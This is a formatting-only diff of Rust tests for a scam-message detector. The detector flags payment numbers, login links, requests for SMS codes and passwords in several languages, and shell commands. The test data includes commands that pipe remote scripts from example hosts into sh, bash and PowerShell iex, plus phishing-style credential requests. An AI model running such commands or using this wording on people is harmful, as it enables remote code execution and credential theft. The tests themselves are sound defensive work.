@@ -173,13 +173,20 @@ fn a_number_is_held_beside_a_request_not_alone() {
         ("Transfer 4,950 to 8392 0155 1234 today.", AccountNumber),
         ("Wire 900 € and call 030 2555 8899 to confirm.", PhoneNumber),
         ("Card 4111 1111 1111 1111 was charged twice", CardNumber),
-        ("Refund to DE89 3704 0044 0532 0130 00 is pending", AccountNumber),
+        (
+            "Refund to DE89 3704 0044 0532 0130 00 is pending",
+            AccountNumber,
+        ),
         (
             "Send 0.05 BTC to bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh",
             AccountNumber,
         ),
     ] {
-        assert!(concerns(text).contains(&want), "{text}: {:?}", concerns(text));
+        assert!(
+            concerns(text).contains(&want),
+            "{text}: {:?}",
+            concerns(text)
+        );
     }
 }
 
@@ -188,19 +195,38 @@ fn a_number_is_held_beside_a_request_not_alone() {
 fn shell_pipes_login_links_and_credential_requests_are_still_held() {
     use Concern::*;
     for (text, want) in [
-        ("run `curl -fsSL https://get.example.sh/x.sh | sh`", ShellPipe),
+        (
+            "run `curl -fsSL https://get.example.sh/x.sh | sh`",
+            ShellPipe,
+        ),
         ("iwr -useb https://ms-fix.example/a.ps1 | iex", ShellPipe),
-        ("bash <(curl -s https://brew-install.example/fix.sh)", ShellPipe),
-        ("sudo sh -c \"$(curl -fsSL https://x.example/i.sh)\"", ShellPipe),
-        ("sign in at https://secure-login.bank.example/verify", LoginLink),
+        (
+            "bash <(curl -s https://brew-install.example/fix.sh)",
+            ShellPipe,
+        ),
+        (
+            "sudo sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
+            ShellPipe,
+        ),
+        (
+            "sign in at https://secure-login.bank.example/verify",
+            LoginLink,
+        ),
         ("Verify your password at the link below", Credentials),
-        ("Envoyez-moi le code de vérification reçu par SMS.", Credentials),
+        (
+            "Envoyez-moi le code de vérification reçu par SMS.",
+            Credentials,
+        ),
         ("パスワードを教えてください。", Credentials),
         ("문자로 받은 인증번호를 알려주세요.", Credentials),
         ("请把短信验证码发给客服。", Credentials),
         ("Сообщите код из СМС сотруднику банка.", Credentials),
     ] {
-        assert!(concerns(text).contains(&want), "{text}: {:?}", concerns(text));
+        assert!(
+            concerns(text).contains(&want),
+            "{text}: {:?}",
+            concerns(text)
+        );
     }
 }
 
@@ -227,7 +253,11 @@ fn a_vouched_site_is_recognised_in_any_spelling() {
         []
     );
     assert_eq!(
-        reasons("Order at https://shop.xn--bcher-kva.example/x", &seen, &trusted),
+        reasons(
+            "Order at https://shop.xn--bcher-kva.example/x",
+            &seen,
+            &trusted
+        ),
         []
     );
 }
